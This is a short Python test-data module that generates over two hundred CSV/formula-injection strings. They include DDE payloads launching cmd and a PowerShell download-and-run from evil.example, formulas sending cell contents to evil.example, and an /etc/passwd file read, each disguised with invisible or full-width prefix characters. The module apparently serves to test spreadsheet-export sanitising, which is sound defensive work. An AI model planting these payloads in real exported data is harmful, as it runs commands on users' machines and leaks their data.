"""Two hundred texts that a spreadsheet must not read as a formula."""

from itertools import product

FORMULAS = (
    "=1+41",
    "=1+41;",
    "=SUM(40,2)",
    "=40+2+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    '=HYPERLINK("https://evil.example/?"&A1,"More")',
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    '=IMAGE("https://evil.example/x.png")',
    "='file:///etc/passwd'#$passwd.A1",
    '=INDIRECT("A1")',
    "+1+41",
    "+40+2+cmd|' /C calc'!A0",
    "-1+43",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(40,2)",
    "@cmd|'/C calc'!A0",
    "＝1+41",
    "＋1+41",
    "－1+43",
    "＠SUM(40,2)",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u2060",
    "'",
    '"',
    "\x01",
    "\x00",
)
WITHIN = ("note;{0}", "note\t{0}", "note|{0}", "note\r\n{0}", 'note"\n{0}')
"""Other separators than a comma, and the ends of lines and of quotes."""

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *FORMULAS,
            *(each.format(text) for each, text in product(WITHIN, FORMULAS[:10])),
            *(before + text for text, before in product(FORMULAS[:13], BEFORE[1:])),
        ]
    )
)[:230]
"""More than 200, all different."""
